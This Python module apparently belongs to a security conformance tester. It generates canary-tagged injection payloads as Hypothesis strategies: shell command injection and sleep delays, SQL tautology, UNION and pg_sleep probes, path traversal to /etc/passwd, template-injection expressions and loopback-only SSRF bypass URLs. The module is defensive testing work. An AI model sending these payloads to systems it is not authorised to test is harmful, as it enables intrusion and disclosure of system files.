"""Hostile string payloads, each carrying a canary token so a hit can be attributed.

Two kinds of evidence, kept apart on purpose:

* ``canary`` (``MCPCHK_<12 hex>``) is *in the text we send*. Seeing it again only proves
  reflection (echoing), or, for ``ssrf``, that something fetched our loopback URL.
* ``expected_marker`` is text that appears *only if the payload was executed / evaluated*.
  Arithmetic is used for that: ``1337*7331`` = 9801547 never occurs in what we send, and unlike
  the usual ``7*7`` = 49 it does not occur by accident either. Shell payloads print
  ``<canary>:9801547``, template payloads render to it, SQL UNION probes select it.

Canaries are derived from drawn data (``st.integers``) and a salt, never from ``os.urandom``:
a seed or a shrunk example reproduces the exact same tokens.

Lone surrogates (``unicode`` family) are legal in a Python ``str`` but not in UTF-8: serialise
with ``json.dumps(..., ensure_ascii=True)``, which writes them as ``\\udxxx`` escapes (see
``Payload.needs_ascii_json``).

Everything here is pure: SSRF URLs point only at a loopback canary server the caller runs
(``ssrf_base`` is refused unless it is 127.0.0.0/8, ``localhost`` or ``::1``).
"""

from __future__ import annotations

import hashlib
import ipaddress
import re
from dataclasses import dataclass, field
from typing import Callable, Iterable, Sequence
from urllib.parse import urlsplit

from hypothesis import strategies as st

PRODUCT = 1337 * 7331  # 9801547
PRODUCT_TEXT = str(PRODUCT)
CANARY_PREFIX = "MCPCHK_"
CANARY_RE = re.compile(r"MCPCHK_[0-9a-f]{12}")

FAMILIES = ("shell", "sql", "path", "template", "ssrf", "oversized", "unicode")
DEFAULT_FAMILIES = tuple(f for f in FAMILIES if f != "ssrf")  # ssrf needs a canary server
DEFAULT_SIZES = (1_024, 65_536, 1_048_576)

_C = "@@CANARY@@"  # placeholder in templates (braces are payload syntax here, so no str.format)


@dataclass(frozen=True)
class Payload:
    """One rendered payload.

    family / template: where it came from ("shell", "shell.semicolon_echo").
    text: the string to send. canary: the token inside ``text``.
    expected_marker: what would prove execution (e.g. "<canary>:9801547", "uid=",
        "root:x:0:0"); None when only behaviour (an error, a crash, a file) can tell.
    """

    family: str
    template: str
    text: str = field(repr=False)
    canary: str
    expected_marker: str | None
    description: str

    @property
    def needs_ascii_json(self) -> bool:
        """True if ``text`` holds a lone surrogate: only ``ensure_ascii=True`` JSON can carry it."""
        try:
            self.text.encode("utf-8")
        except UnicodeEncodeError:
            return True
        return False

    def __repr__(self) -> str:  # keep reports readable for megabyte payloads
        shown = self.text if len(self.text) <= 80 else self.text[:60] + f"...({len(self.text)} chars)"
        return f"Payload({self.template}, {shown!r})"


@dataclass(frozen=True)
class PayloadTemplate:
    family: str
    name: str
    text_fn: Callable[[str], str] = field(repr=False)
    marker_fn: Callable[[str], str | None] = field(repr=False)
    description: str

    def render(self, canary: str) -> Payload:
        return Payload(self.family, self.name, self.text_fn(canary), canary, self.marker_fn(canary), self.description)


def make_canary(n: int, salt: str = "") -> str:
    """Deterministic token from a number (drawn by Hypothesis) and a salt."""
    digest = hashlib.blake2b(f"{salt}\x00{n}".encode(), digest_size=6).hexdigest()
    return CANARY_PREFIX + digest


def canary(salt: str = "") -> st.SearchStrategy[str]:
    """Strategy of canary tokens; the salt keeps tokens of different fields/templates apart."""
    return st.integers(0, 2**48 - 1).map(lambda n: make_canary(n, salt))


def _t(family: str, name: str, text: str, marker: str | None, description: str) -> PayloadTemplate:
    return PayloadTemplate(
        family,
        f"{family}.{name}",
        lambda c, text=text: text.replace(_C, c),
        (lambda c, marker=marker: marker.replace(_C, c)) if marker is not None else (lambda c: None),
        description,
    )


_EXEC = f"{_C}:{PRODUCT_TEXT}"  # printed/rendered only if the payload ran
_ECHO = f"echo {_C}:$((1337*7331))"


def _shell() -> list[PayloadTemplate]:
    f = "shell"
    return [
        _t(f, "semicolon_echo", f"; {_ECHO}", _EXEC, "command separator: a shell ran our echo"),
        _t(f, "and_echo", f"&& {_ECHO}", _EXEC, "&& chaining after the intended command"),
        _t(f, "pipe_echo", f"| {_ECHO}", _EXEC, "pipe into our command"),
        _t(f, "dollar_paren", f"$({_ECHO})", _EXEC, "command substitution $( )"),
        _t(f, "backticks", f"`{_ECHO}`", _EXEC, "command substitution with backticks"),
        _t(f, "printf_subst", f"$(printf '%s:%d' {_C} $((1337*7331)))", _EXEC, "printf in $( ): output differs from the input text"),
        _t(f, "single_quote_break", f"'; {_ECHO}; '", _EXEC, "breaks out of a single-quoted argument"),
        _t(f, "double_quote_break", f'"; {_ECHO}; "', _EXEC, "breaks out of a double-quoted argument"),
        _t(f, "newline", f"x\n{_ECHO}", _EXEC, "newline as command separator"),
        _t(f, "pipe_id", f"| id # {_C}", "uid=", "pipe into id(1); 'uid=' in output means it ran"),
        _t(f, "semicolon_id", f"; id; echo {_C}", "uid=", "id(1) after a separator"),
    ]


def _sql() -> list[PayloadTemplate]:
    f = "sql"
    return [
        _t(f, "tautology_single", f"' OR '1'='1' -- {_C}", None, "tautology: more rows / auth bypass than the input deserves"),
        _t(f, "tautology_double", f'" OR "1"="1" -- {_C}', None, "tautology with double quotes"),
        _t(f, "tautology_numeric", f"1 OR 1=1 -- {_C}", None, "tautology in a numeric context"),
        _t(f, "union_concat_pipes", f"' UNION SELECT '{_C}:'||(1337*7331)-- ", _EXEC, "UNION probe (SQLite/PostgreSQL concatenation)"),
        _t(f, "union_concat_fn", f"' UNION SELECT CONCAT('{_C}:',1337*7331)-- ", _EXEC, "UNION probe (MySQL CONCAT)"),
        _t(f, "union_null_column", f"' UNION SELECT NULL,'{_C}'-- ", None, "UNION with a second column: column-count probing"),
        _t(f, "stacked", f"'; SELECT '{_C}:'||(1337*7331); --", _EXEC, "stacked query"),
        _t(f, "unbalanced", f"{_C}'\")", None, "unbalanced quotes: an SQL syntax error in the output reveals string-built SQL"),
    ]


def _path() -> list[PayloadTemplate]:
    f = "path"
    up = "../" * 8
    passwd = "root:x:0:0"
    return [
        _t(f, "dotdot_write", f"{up}tmp/{_C}.txt", None, f"escapes the root; a file /tmp/{_C}.txt appearing proves a write outside it"),
        _t(f, "dotdot_passwd", f"{up}{_C}/../etc/passwd", passwd, "relative traversal to /etc/passwd (lexically normalised paths)"),
        _t(f, "absolute_passwd", f"/{_C}/../etc/passwd", passwd, "absolute path, lexically normalised"),
        _t(f, "absolute_tmp", f"/tmp/{_C}", None, "absolute path outside any allowed root"),
        _t(f, "urlencoded", "..%2f" * 8 + f"tmp%2f{_C}.txt", None, "URL-encoded ../ (decoded after the check)"),
        _t(f, "double_urlencoded", "%252e%252e%252f" * 8 + f"tmp%252f{_C}.txt", None, "double URL-encoded ../"),
        _t(f, "backslash", "..\\" * 8 + f"{_C}\\..\\windows\\win.ini", "[fonts]", "Windows separators"),
        _t(f, "filter_bypass", "....//" * 8 + f"tmp/{_C}.txt", None, "....// survives a single non-recursive '../' strip"),
        _t(f, "nul_truncation", f"{up}etc/passwd\x00{_C}.png", passwd, "NUL truncates the extension check"),
        _t(f, "file_url", f"file:///{_C}/../etc/passwd", passwd, "file:// URL for tools that fetch URLs"),
    ]


def _template() -> list[PayloadTemplate]:
    f = "template"
    expr = "1337*7331"
    return [
        _t(f, "double_brace", f"{_C}:{{{{{expr}}}}}", _EXEC, "Jinja2/Twig/Nunjucks {{ }}"),
        _t(f, "dollar_brace", f"{_C}:${{{expr}}}", _EXEC, "JS template literal / EL / FreeMarker ${ }"),
        _t(f, "erb", f"{_C}:<%= {expr} %>", _EXEC, "ERB/EJS <%= %>"),
        _t(f, "hash_brace", f"{_C}:#{{{expr}}}", _EXEC, "Ruby interpolation / Pug #{ }"),
        _t(f, "dollar_double_brace", f"{_C}:${{{{{expr}}}}}", _EXEC, "${{ }} expression syntax"),
        _t(f, "star_brace", f"{_C}:*{{{expr}}}", _EXEC, "Thymeleaf *{ }"),
        _t(f, "razor", f"{_C}:@({expr})", _EXEC, "Razor @( )"),
        _t(f, "single_brace", f"{_C}:{{{expr}}}", _EXEC, "Python f-string / single-brace evaluation"),
        _t(f, "python_eval", f"'{_C}:'+str({expr})", _EXEC, "Python eval() of the argument"),
        _t(f, "js_eval", f"'{_C}:'+({expr})", _EXEC, "JavaScript eval() of the argument"),
    ]


def _is_loopback(host: str) -> bool:
    if host == "localhost":
        return True
    try:
        return ipaddress.ip_address(host).is_loopback
    except ValueError:
        return False


def ssrf_templates(base_url: str) -> list[PayloadTemplate]:
    """The ssrf family's templates, aimed at `base_url` (an http(s) URL on a loopback host)."""
    parts = urlsplit(base_url)
    host = parts.hostname or ""
    if parts.scheme not in ("http", "https") or not _is_loopback(host):
        raise ValueError(f"ssrf_base must be an http(s) URL on a loopback host, got {base_url!r}")
    port = parts.port or (443 if parts.scheme == "https" else 80)
    prefix = parts.path.rstrip("/")
    scheme = parts.scheme
    f = "ssrf"
    marker = "/" + _C  # what the canary server sees in the request path
    out = [
        _t(f, "base", f"{base_url.rstrip('/')}/{_C}", marker, "plain URL to the loopback canary server"),
        _t(f, "query", f"{base_url.rstrip('/')}/{_C}?next=%2F{_C}", marker, "URL with query string"),
        _t(f, "userinfo", f"{scheme}://{_C}@{host if ':' not in host else f'[{host}]'}:{port}{prefix}/{_C}", marker, "userinfo@ confusion"),
        _t(f, "protocol_relative", f"//{host if ':' not in host else f'[{host}]'}:{port}{prefix}/{_C}", marker, "protocol-relative URL"),
    ]
    if host.startswith("127."):
        try:
            as_int = int(ipaddress.IPv4Address(host))
        except ValueError:
            as_int = 0x7F000001
        for name, alt in (
            ("localhost_name", "localhost"),
            ("decimal_ip", str(as_int)),
            ("hex_ip", hex(as_int)),
            ("short_ip", "127.1" if host == "127.0.0.1" else host),
            ("ipv4_mapped_v6", f"[::ffff:{host}]"),
        ):
            out.append(_t(f, name, f"{scheme}://{alt}:{port}{prefix}/{_C}", marker, f"loopback spelled as {alt} (filter bypass)"))
    return out


def _oversized(sizes: Sequence[int]) -> list[PayloadTemplate]:
    f = "oversized"
    out = []
    for size in sizes:
        for name, unit in (("ascii", "A"), ("two_byte", "é"), ("four_byte", "😀"), ("digits", "9"), ("brackets", "[{")):

            def text(c: str, size: int = size, unit: str = unit) -> str:
                filler = max(0, size - len(c))
                return c + (unit * (filler // len(unit) + 1))[:filler]

            out.append(PayloadTemplate(f, f"{f}.{name}_{size}", text, lambda c: None, f"{size} characters of {unit!r}: limits, buffers, timeouts"))
    return out


def _unicode() -> list[PayloadTemplate]:
    f = "unicode"
    return [
        _t(f, "lone_high_surrogate", f"{_C}\ud800", None, "lone high surrogate (not encodable as UTF-8; JSON \\ud800)"),
        _t(f, "lone_low_surrogate", f"{_C}\udc00x", None, "lone low surrogate"),
        _t(f, "reversed_pair", f"{_C}\udc00\ud800", None, "surrogates in the wrong order"),
        _t(f, "nul", f"{_C}\x00tail", None, "embedded NUL (C-string truncation)"),
        _t(f, "rtl_override", f"{_C}\u202etxt.exe", None, "RIGHT-TO-LEFT OVERRIDE U+202E (spoofed display)"),
        _t(f, "zero_width", f"{_C}\u200b\u200c\u200d\u2060\ufeff", None, "zero-width characters and BOM"),
        _t(f, "bom_first", f"\ufeff{_C}", None, "byte-order mark at the start"),
        _t(f, "combining", f"{_C}e" + "\u0301" * 64, None, "64 combining marks on one letter"),
        _t(f, "emoji_zwj", f"{_C}\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", None, "emoji ZWJ sequence"),
        _t(f, "non_bmp", f"{_C}\U0001d54f\U0001f600\U0010fffd", None, "astral (non-BMP) characters"),
        _t(f, "noncharacters", f"{_C}\ufffe\uffff", None, "Unicode noncharacters U+FFFE U+FFFF"),
        _t(f, "line_separators", f"{_C}\u2028\u2029", None, "U+2028/U+2029 (break JavaScript string literals)"),
        _t(f, "ansi_escape", f"{_C}\x1b[2J\x1b[31mred", None, "ANSI terminal escapes (log/terminal injection)"),
        _t(f, "fullwidth", f"{_C}\uff0e\uff0e\uff0f", None, "fullwidth ../ (normalises to ../ under NFKC)"),
    ]


# -------------------------------------------------------------------- time-based (blind) families
# A payload whose output is discarded leaves no text to prove it ran; these ask for a DELAY
# instead, and the proof is timing (conformance/security/timing.py judges it). `@@N@@` is the
# delay parameter: seconds for `sleep` / `pg_sleep`, rows of a recursive CTE for SQLite (which
# has no sleep function; the caller calibrates rows per second). Nothing here writes or deletes.

_N = "@@N@@"
_CTE = f"(WITH RECURSIVE mcpchk(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM mcpchk WHERE x<{_N}) SELECT count(*) FROM mcpchk)"


@dataclass(frozen=True)
class TimedTemplate:
    """A payload that asks for a delay. family: shell | sql; unit: "s" (seconds) or "rows"
    (SQLite heavy expression: work that scales with the parameter)."""

    family: str
    name: str
    text: str = field(repr=False)
    unit: str
    description: str

    def render(self, n: float | int) -> str:
        value = str(int(n)) if self.unit == "rows" or float(n).is_integer() else f"{n:g}"
        return self.text.replace(_N, value)


def timed_templates(families: Iterable[str] = ("shell", "sql")) -> list[TimedTemplate]:
    """Every time-based template of the requested families (shell sleep, SQLite heavy
    expression, PostgreSQL pg_sleep), in a stable order."""
    out: list[TimedTemplate] = []
    for family in families:
        if family == "shell":
            out += [
                TimedTemplate("shell", "shell.semicolon_sleep", f"; sleep {_N}", "s", "command separator, then sleep"),
                TimedTemplate("shell", "shell.dollar_paren_sleep", f"$(sleep {_N})", "s", "command substitution $( )"),
                TimedTemplate("shell", "shell.backticks_sleep", f"`sleep {_N}`", "s", "command substitution with backticks"),
                TimedTemplate("shell", "shell.single_quote_sleep", f"'; sleep {_N}; '", "s", "breaks out of a single-quoted argument"),
                TimedTemplate("shell", "shell.double_quote_sleep", f'"; sleep {_N}; "', "s", "breaks out of a double-quoted argument"),
                TimedTemplate("shell", "shell.and_sleep", f"&& sleep {_N}", "s", "&& chaining"),
                TimedTemplate("shell", "shell.pipe_sleep", f"| sleep {_N}", "s", "pipe into sleep"),
                TimedTemplate("shell", "shell.newline_sleep", f"x\nsleep {_N}", "s", "newline as command separator"),
            ]
        elif family == "sql":
            out += [
                TimedTemplate("sql", "sql.sqlite_heavy_concat", f"' || {_CTE} || '", "rows", "SQLite: a recursive CTE concatenated into a single-quoted literal"),
                TimedTemplate("sql", "sql.pg_sleep_concat", f"'||pg_sleep({_N})||'", "s", "PostgreSQL pg_sleep concatenated into a single-quoted literal"),
                TimedTemplate("sql", "sql.sqlite_heavy_or", f"' OR {_CTE}=0 -- ", "rows", "SQLite: a recursive CTE after a quote break"),
                TimedTemplate("sql", "sql.pg_sleep_stacked", f"'; SELECT pg_sleep({_N}) -- ", "s", "PostgreSQL: a stacked pg_sleep after a quote break"),
                TimedTemplate("sql", "sql.sqlite_heavy_numeric", f"0 OR {_CTE}=0", "rows", "SQLite: a recursive CTE in a numeric context"),
                TimedTemplate("sql", "sql.sqlite_heavy_double", f'" || {_CTE} || "', "rows", "SQLite: a recursive CTE concatenated into a double-quoted literal"),
                TimedTemplate("sql", "sql.pg_sleep_numeric", f"0 OR (SELECT 1 FROM pg_sleep({_N})) IS NULL", "s", "PostgreSQL pg_sleep in a numeric context"),
            ]
        else:
            raise ValueError(f"no time-based templates for family {family!r}; known: shell, sql")
    return out


def templates(
    families: Iterable[str] = DEFAULT_FAMILIES,
    *,
    ssrf_base: str | None = None,
    sizes: Sequence[int] = DEFAULT_SIZES,
) -> list[PayloadTemplate]:
    """Every template of the requested families, in a stable order."""
    out: list[PayloadTemplate] = []
    for family in families:
        if family == "shell":
            out += _shell()
        elif family == "sql":
            out += _sql()
        elif family == "path":
            out += _path()
        elif family == "template":
            out += _template()
        elif family == "ssrf":
            if ssrf_base is None:
                raise ValueError("the ssrf family needs ssrf_base (the loopback canary server's URL)")
            out += ssrf_templates(ssrf_base)
        elif family == "oversized":
            out += _oversized(sizes)
        elif family == "unicode":
            out += _unicode()
        else:
            raise ValueError(f"unknown payload family {family!r}; known: {', '.join(FAMILIES)}")
    return out


def render_all(token: str, families: Iterable[str] = DEFAULT_FAMILIES, *, ssrf_base: str | None = None, sizes: Sequence[int] = DEFAULT_SIZES) -> list[Payload]:
    """Every payload rendered with one given canary (for catalogues, docs and tests)."""
    return [t.render(token) for t in templates(families, ssrf_base=ssrf_base, sizes=sizes)]


def from_templates(chosen: Sequence[PayloadTemplate], salt: str = "") -> st.SearchStrategy[Payload]:
    """Strategy rendering one of ``chosen`` with a drawn canary (salted by template name)."""
    if not chosen:
        return st.nothing()

    @st.composite
    def draw_payload(draw: st.DrawFn) -> Payload:
        template = draw_template(draw, chosen)
        n = draw(st.integers(0, 2**48 - 1), label="canary seed")
        return template.render(make_canary(n, f"{salt}|{template.name}"))

    return draw_payload()


def draw_template(draw: st.DrawFn, chosen: Sequence[PayloadTemplate]) -> PayloadTemplate:
    """Family first, then a template of it: families with many templates (oversized has 15)
    would otherwise crowd out the others."""
    families = list(dict.fromkeys(t.family for t in chosen))
    family = draw(st.sampled_from(families), label="payload family")
    return draw(st.sampled_from([t for t in chosen if t.family == family]), label="payload template")


def payloads(
    families: Iterable[str] = DEFAULT_FAMILIES,
    *,
    ssrf_base: str | None = None,
    sizes: Sequence[int] = DEFAULT_SIZES,
    salt: str = "",
) -> st.SearchStrategy[Payload]:
    """Strategy of payloads from the given families (``ssrf`` requires ``ssrf_base``)."""
    return from_templates(templates(families, ssrf_base=ssrf_base, sizes=sizes), salt)


def shell_payloads() -> st.SearchStrategy[Payload]:
    return payloads(["shell"])


def sql_payloads() -> st.SearchStrategy[Payload]:
    return payloads(["sql"])


def path_payloads() -> st.SearchStrategy[Payload]:
    return payloads(["path"])


def template_payloads() -> st.SearchStrategy[Payload]:
    return payloads(["template"])


def ssrf_payloads(base_url: str) -> st.SearchStrategy[Payload]:
    return payloads(["ssrf"], ssrf_base=base_url)


def oversized_payloads(sizes: Sequence[int] = DEFAULT_SIZES) -> st.SearchStrategy[Payload]:
    return payloads(["oversized"], sizes=sizes)


def unicode_payloads() -> st.SearchStrategy[Payload]:
    return payloads(["unicode"])
